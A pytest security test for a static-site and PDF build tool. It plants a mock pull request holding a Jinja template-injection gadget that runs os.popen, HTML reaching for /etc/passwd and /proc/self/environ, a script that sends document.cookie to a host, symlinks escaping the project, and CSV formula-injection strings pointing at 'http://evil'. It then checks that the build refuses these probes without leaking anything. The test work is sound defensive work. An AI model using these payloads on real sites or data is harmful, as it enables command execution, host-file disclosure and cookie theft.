"""Issue 11, done when: a build of a pull request carrying every probe at once leaks nothing,
runs nothing and writes nothing outside the project.

The pull request is a real git commit on top of a clean project. It carries a page that tries to
run a command through Jinja, raw HTML reaching for host files, symbolic links out of the project
in content/, data/ and data/rulesets/, a FIFO, formula-leading and terminal-escape text in data.
CI's commands run on it with a secret in the environment: check, mkdocs build --strict,
gongkai build, gongkai pdf and gongkai diff. Each either refuses (non-zero, located, no
traceback) or succeeds without leaking; nothing outside the project changes."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from sitebuild import GONGKAI, MKDOCS, make_project, quiet_env, sample_text

SECRET = "gk-secret-token-5f1d"
PASSWD_MARK = "root:x:0:0"
REPORT = "data/2021/test-dept/x.yaml"


def git(repo: Path, *args: str) -> str:
    env = {
        **quiet_env(),
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True, env=env).stdout


def snapshot(folder: Path, skip: Path) -> dict:
    """Every path under ``folder`` except ``skip``, with its size and mtime (links not followed)."""
    found = {}
    for root, dirs, files in os.walk(folder):
        if Path(root) == skip or skip in Path(root).parents:
            dirs[:] = []
            continue
        for name in dirs + files:
            path = Path(root) / name
            if path == skip:
                continue
            st = path.lstat()
            found[str(path)] = (st.st_size, st.st_mtime_ns)
    return found


HOSTILE_PAGE = """---
数据: data/2021/test-dept/x.yaml
---
# 报告

总分 {{ 总分 }}。

{{ lipsum.__globals__["os"].popen("touch MARKER").read() }}

<img src="file:///etc/passwd">
<a rel="attachment" href="../../leak/passwd.txt">附件</a>
"""

HOSTILE_HTML = """# 附件

<img src="file:///etc/passwd">
<script>fetch("http://127.0.0.1:1/?" + document.cookie)</script>
<a rel="attachment" href="leak/passwd.txt">附件</a>
<svg><image href="file:///proc/self/environ"/></svg>
"""


@pytest.fixture
def pull_request(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.yaml").write_text(f"令牌: {SECRET}\n", encoding="utf-8")
    project = make_project(tmp_path / "project", {REPORT: sample_text()})
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "base")
    base = git(project, "rev-parse", "HEAD").strip()

    hostile = sample_text().replace("名称: ", '名称: "=HYPERLINK(\\"http://evil\\",\\"x\\")\\e]0;pwned\\a"  # ', 1)
    hostile = hostile.replace("名称: 开展信息员培训次数", '名称: "=HYPERLINK(\\"http://evil\\",\\"x\\")"', 1)
    (project / "data/2021/test-dept/y.yaml").write_text(hostile, encoding="utf-8")
    (project / "content/2021/test-dept").mkdir(parents=True)
    (project / "content/2021/test-dept/x.md").write_text(HOSTILE_PAGE, encoding="utf-8")
    (project / "content/attachments.md").write_text(HOSTILE_HTML, encoding="utf-8")
    (project / "content/leak").mkdir()
    os.symlink("/etc/passwd", project / "content/leak/passwd.txt")
    os.symlink("/proc/self/environ", project / "content/leak/env.txt")
    os.symlink("../../../../../../../../etc", project / "content/leak/etc")
    os.symlink("/etc/passwd", project / "data/2021/test-dept/leak.yaml")
    (project / "data/rulesets").mkdir()
    os.symlink(outside / "secret.yaml", project / "data/rulesets/evil.yaml")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "a pull request")
    os.mkfifo(project / "content/leak/fifo.txt")  # git cannot carry one; a checkout can hold one
    return tmp_path, project, base


def run(project: Path, *args: str) -> subprocess.CompletedProcess:
    env = quiet_env()
    env["GITHUB_TOKEN"] = SECRET
    env["GONGKAI_PDF"] = "1"
    return subprocess.run(args, cwd=project, capture_output=True, text=True, timeout=600, env=env)


def written_under(folder: Path) -> str:
    """The text of every regular file under ``folder`` (links not followed)."""
    out = []
    for root, _, files in os.walk(folder):
        for name in files:
            path = Path(root) / name
            if path.is_file() and not path.is_symlink():
                out.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(out)


def test_a_pull_request_with_every_probe_leaks_runs_and_writes_nothing(pull_request):
    tmp_path, project, base = pull_request
    before = snapshot(tmp_path, project)
    runs = {
        "check": run(project, str(GONGKAI), "check", "."),
        "mkdocs": run(project, str(MKDOCS), "build", "--strict", "-d", str(project / "site")),
        "build": run(project, str(GONGKAI), "build", "--site-dir", str(project / "site2")),
        "pdf": run(project, str(GONGKAI), "pdf", "--out", str(project / "pdfs")),
        "diff": run(project, str(GONGKAI), "diff", base, "HEAD"),
    }
    for name in ("check", "mkdocs", "build", "pdf"):
        assert runs[name].returncode != 0, f"{name} 应拒绝这个合并请求"
    for name, done in runs.items():
        said = done.stdout + done.stderr
        assert "Traceback" not in said, (name, said[-3000:])
        assert PASSWD_MARK not in said and SECRET not in said, name
        assert "\x1b" not in said and "\x07" not in said, name
    located = runs["check"].stdout + runs["check"].stderr
    for path in (
        "content/leak/passwd.txt",
        "content/leak/env.txt",
        "content/leak/fifo.txt",
        "data/2021/test-dept/leak.yaml",
        "data/rulesets/evil.yaml",
    ):
        assert path in located, path
    assert not (project / "MARKER").exists() and not Path("MARKER").exists()
    produced = written_under(project)
    assert PASSWD_MARK not in produced and SECRET not in produced
    assert snapshot(tmp_path, project) == before, "合并请求改动了项目之外的文件"


def test_without_links_the_build_reaches_the_pages_and_refuses_each_probe(pull_request):
    """The same pull request without its links and FIFO: the build now reaches the pages. The
    Jinja gadget is a located PAGE_TEMPLATE error and runs nothing; once it is gone, the raw
    HTML is cleaned (PAGE_HTML, a failure under --strict), and the published site and PDFs hold
    no host file, while formula-leading text is neutralised in the open data."""
    tmp_path, project, _ = pull_request
    for link in ("content/leak", "data/2021/test-dept/leak.yaml", "data/rulesets"):
        path = project / link
        for root, dirs, files in os.walk(path, topdown=False):
            for name in files + dirs:
                os.unlink(Path(root) / name) if not (Path(root) / name).is_dir() or (
                    Path(root) / name
                ).is_symlink() else os.rmdir(Path(root) / name)
        os.unlink(path) if path.is_symlink() or path.is_file() else os.rmdir(path)
    before = snapshot(tmp_path, project)

    gadget = run(project, str(MKDOCS), "build", "-d", str(project / "site"))
    said = gadget.stdout + gadget.stderr
    assert gadget.returncode != 0 and "PAGE_TEMPLATE" in said and "content/2021/test-dept/x.md:8" in said, said[-3000:]
    assert "Traceback" not in said and not (project / "MARKER").exists()

    page = project / "content/2021/test-dept/x.md"
    page.write_text(
        HOSTILE_PAGE.replace('{{ lipsum.__globals__["os"].popen("touch MARKER").read() }}', ""), encoding="utf-8"
    )
    strict = run(project, str(MKDOCS), "build", "--strict", "-d", str(project / "site"))
    assert strict.returncode != 0 and "PAGE_HTML" in strict.stdout + strict.stderr
    built = run(project, str(MKDOCS), "build", "-d", str(project / "site"))
    said = built.stdout + built.stderr
    assert built.returncode != 0, said[-3000:]  # the report page refers to a file outside: its PDF fails, named
    assert "content/2021/test-dept/x.md" in said and "PDF 未生成" in said and "Traceback" not in said
    site = written_under(project / "site")
    assert PASSWD_MARK not in site and SECRET not in site and "<script>fetch" not in site
    csv = next((project / "site").rglob("y.csv")).read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
    assert snapshot(tmp_path, project) == before
